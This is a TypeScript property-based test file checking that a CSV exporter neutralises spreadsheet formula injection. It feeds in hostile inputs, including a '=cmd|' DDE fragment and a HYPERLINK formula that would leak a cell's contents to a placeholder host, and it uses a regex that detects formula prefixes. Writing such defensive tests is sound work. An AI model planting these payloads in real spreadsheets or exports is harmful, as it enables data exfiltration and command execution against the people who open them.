import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvBytes } from '../../../src/main/core/export/csv-table.ts'
import { parseCsv } from '../../support/parse-csv.ts'

function read(rows: readonly (readonly (string | number | null)[])[]): string[][] {
  const bytes = csvBytes({ headings: ['one', 'two'], rows })
  expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf])
  return parseCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes)).slice(1)
}

/** What a spreadsheet begins a formula with, wherever it may see the beginning of a cell. */
const formula = /(?:^|[;\n\r])[\s]*[=+\-@＝＋－＠]/

const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', "'", ' '),
      fc.constantFrom('＝', '＋', '－', '＠', 'a', 'é', '李', '=cmd|', 'HYPERLINK('),
      fc.string({ unit: 'grapheme' }),
    ),
  )
  .map((parts) => parts.join(''))

test('every table is read back with as many cells, and no cell is a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(hostile, hostile), { minLength: 1 }), (rows) => {
      const back = read(rows)
      expect(back.map((row) => row.length)).toEqual(rows.map(() => 2))
      for (const [index, row] of back.entries())
        for (const [column, cell] of row.entries()) {
          expect(cell).not.toMatch(formula)
          // Nothing but apostrophes was put in.
          const written = rows[index]?.[column] ?? ''
          expect(cell.replaceAll("'", '')).toBe(written.toWellFormed().replaceAll("'", ''))
        }
    }),
  )
})

test('words that are no formula are read back as they are', () => {
  const plain = fc.string({ unit: 'grapheme' }).filter((text) => !formula.test(text))
  fc.assert(
    fc.property(plain, plain, (one, two) => {
      expect(read([[one, two]])).toEqual([[one, two].map((text) => text.toWellFormed())])
    }),
  )
})

test.each([
  ['=HYPERLINK("https://example.invalid/?"&A1)', '\'=HYPERLINK("https://example.invalid/?"&A1)'],
  ['Harbor;=1+1', "Harbor;'=1+1"],
  ['  @sum', "  '@sum"],
  ['Ana\n-2', "Ana\n'-2"],
  ['Anna-Lena, "Nan" O\'Neill; 3 = 3', 'Anna-Lena, "Nan" O\'Neill; 3 = 3'],
])('%j is read as %j', (written, back) => {
  expect(read([[written, 0]])).toEqual([[back, '0']])
})

test('numbers stay numbers, and what there is none of stays empty', () => {
  const text = new TextDecoder().decode(csvBytes({ headings: ['a', 'b'], rows: [[90, null]] }))
  expect(text).toBe('"a","b"\r\n90,\r\n')
})
